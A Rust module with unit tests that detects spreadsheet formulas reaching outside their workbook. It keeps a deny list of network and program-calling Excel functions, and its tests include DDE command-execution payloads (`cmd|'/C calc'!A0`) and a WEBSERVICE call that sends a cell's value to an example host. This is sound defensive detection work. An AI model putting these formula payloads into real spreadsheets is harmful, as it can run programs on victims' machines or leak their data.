//! Tells whether a formula reaches outside its workbook.

/// Functions that fetch from the network or call other programs (Excel 2010–365 and the XLM macro functions).
const REACHING_FUNCTIONS: [&str; 9] =
    ["WEBSERVICE", "RTD", "IMAGE", "STOCKHISTORY", "CALL", "REGISTER", "REGISTER.ID", "EXEC", "DDE"];

/// True if the formula calls out (WEBSERVICE …), is a DDE link (`cmd|'/c …'!A0`) or refers to another workbook
/// (`[1]Sheet!A1`, `'C:\dir\[book.xlsx]Sheet'!A1`). References to tables (`Orders[Amount]`) stay inside.
pub(crate) fn reaches_out(formula: &str) -> bool {
    let chars: Vec<char> = formula.chars().collect();
    let (mut in_text, mut in_name) = (false, false);
    let mut word = String::new();
    for (at, &c) in chars.iter().enumerate() {
        match c {
            '"' if !in_name => in_text = !in_text,
            _ if in_text => {}
            '\'' => in_name = !in_name,
            '[' if opens_external_reference(&chars, at) => return true,
            // DDE is written program|topic!item.
            '|' if !in_name && chars[at..].contains(&'!') => return true,
            '(' if !in_name => {
                let name = word.strip_prefix("_XLFN.").unwrap_or(&word);
                if REACHING_FUNCTIONS.contains(&name) {
                    return true;
                }
            }
            _ => {}
        }
        if !in_text && (c.is_alphanumeric() || c == '.' || c == '_') {
            word.extend(c.to_uppercase());
        } else if c != ' ' {
            word.clear();
        }
    }
    false
}

/// `[book]sheet!` opens a reference to another workbook; `Table[column]` and `[@column]` do not.
fn opens_external_reference(chars: &[char], at: usize) -> bool {
    let follows_table_name =
        at > 0 && (chars[at - 1].is_alphanumeric() || matches!(chars[at - 1], '_' | '[' | ']'));
    if follows_table_name {
        return false;
    }
    let Some(close) = chars[at..].iter().position(|&c| c == ']') else { return false };
    chars[at + close + 1..]
        .iter()
        .find(|&&c| !(c.is_alphanumeric() || matches!(c, '_' | '.' | '-' | ' ' | '\'' | '(' | ')')))
        .is_some_and(|&c| c == '!')
}

#[cfg(test)]
mod tests {
    use super::reaches_out;

    #[test]
    fn formulas_that_leave_the_workbook_are_told_from_those_that_stay() {
        for formula in [
            "WEBSERVICE(\"http://example.com/\"&A1)",
            "_xlfn.WEBSERVICE (A1)",
            "=cmd|'/C calc'!A0",
            "MSEXCEL|'\\\\..\\x'!''",
            "[1]Sheet1!A1",
            "SUM('[客户 2024.xlsx]一月'!A1:A9)",
            "'C:\\data\\[book.xlsx]S'!$A$1",
            "1+rtd(\"prog\",,\"x\")",
            "_xlfn.IMAGE(\"https://example.com/x.png\")",
        ] {
            assert!(reaches_out(formula), "{formula}");
        }
        for formula in [
            "SUM(A1:B2)",
            "Orders[Amount]",
            "SUM(订单[金额])*2",
            "[@金额]+Sheet2!A1",
            "\"a|b\"&A1",
            "=====|=====",
            "'客户|联系人'!A1",
            "IF(A1=\"[1]x!y\",1,0)",
            "MYCALL(1)",
            "HYPERLINK(\"https://example.com\",A1)",
        ] {
            assert!(!reaches_out(formula), "{formula}");
        }
    }
}
